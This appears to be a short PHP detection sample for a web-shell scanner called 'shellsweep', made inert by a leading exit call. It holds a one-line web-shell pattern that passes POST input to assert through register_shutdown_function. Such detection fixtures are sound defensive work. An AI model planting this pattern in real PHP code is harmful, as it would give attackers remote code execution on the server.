<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php register_shutdown_function('assert', $_POST['x']); ?>
